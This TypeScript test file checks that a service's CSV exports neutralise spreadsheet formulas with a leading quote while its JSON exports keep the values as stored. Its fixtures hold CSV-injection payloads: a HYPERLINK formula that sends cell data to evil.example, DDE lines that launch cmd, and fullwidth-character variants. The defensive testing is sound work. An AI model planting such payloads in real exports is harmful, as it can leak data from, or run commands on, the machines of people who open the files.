import { createTestApp, type TestApp } from '../helpers/app';
import { ACTIVITY_ENV, addEvents, get } from '../helpers/activity';
import { parseCsvRecords } from '../helpers/csv';
import { registerAndLogin } from '../helpers/users';

/** A cell a spreadsheet would run as a formula: it starts with one of these. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Every CSV the service writes neutralises formulas (a leading single quote); JSON stays as stored. */
describe('CSV exports and spreadsheet formulas', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp(ACTIVITY_ENV);
  });
  afterAll(() => t.close());

  const hostile = [
    {
      event_type: 'opened',
      file_path: '=HYPERLINK("https://evil.example/?"&A1,"x")',
      tool: "@SUM(1+1)*cmd|' /C calc'!A0",
      operation: '+cmd',
    },
    { event_type: '-2+3', file_path: '\t=1+1', tool: '\r=1+1', operation: '=1' },
    { event_type: 'opened', file_path: '＝HYPERLINK("https://evil.example")', tool: '＠SUM(1)', operation: '－1' },
    { event_type: 'opened', file_path: '/home/ada/a=b+c-d@e.py', tool: 'vim', operation: 'open' },
  ];

  it('GET /api/events/export?format=csv prefixes cells that start a formula with a quote; JSON is unchanged', async () => {
    const u = await registerAndLogin(t);
    await addEvents(t, u, hostile);

    const csv = await get(t, u, '/api/events/export?format=csv').expect(200);
    const records = parseCsvRecords(csv.text);
    expect(records).toHaveLength(hostile.length);
    for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(FORMULA_START);
    const exported = records.map(({ event_type, file_path, tool, operation }) => ({ event_type, file_path, tool, operation }));
    const neutralised = (v: string) => (FORMULA_START.test(v) ? `'${v}` : v);
    const expected = hostile.map((e) => ({
      event_type: neutralised(e.event_type),
      file_path: neutralised(e.file_path),
      tool: neutralised(e.tool),
      operation: neutralised(e.operation),
    }));
    expect(exported.sort(byPath)).toEqual(expected.sort(byPath));

    const json = JSON.parse((await get(t, u, '/api/events/export?format=json').expect(200)).text) as typeof hostile;
    const stored = json.map(({ event_type, file_path, tool, operation }) => ({ event_type, file_path, tool, operation }));
    expect(stored.sort(byPath)).toEqual([...hostile].sort(byPath));
  });

  it('GET /api/patterns/export?format=csv: no cell starts a formula; JSON is unchanged', async () => {
    const u = await registerAndLogin(t);
    await addEvents(t, u, [
      { event_type: 'opened', file_path: '/x/report.xlsx', tool: "=cmd|' /C calc'!A0" },
      { event_type: 'opened', file_path: '/x/-minus.py', tool: '@SUM(1)' },
    ]);
    const records = parseCsvRecords((await get(t, u, '/api/patterns/export?format=csv').expect(200)).text);
    expect(records.map((r) => r.file_extension).sort()).toEqual(['.py', '.xlsx']);
    for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(FORMULA_START);
    const json = JSON.parse((await get(t, u, '/api/patterns/export?format=json').expect(200)).text) as {
      file_extension: string;
      tools: string[];
    }[];
    expect(Object.fromEntries(json.map((p) => [p.file_extension, p.tools]))).toEqual({
      '.xlsx': ["=cmd|' /C calc'!A0"],
      '.py': ['@SUM(1)'],
    });
  });
});

const byPath = (a: { file_path: string }, b: { file_path: string }) => a.file_path.localeCompare(b.file_path);
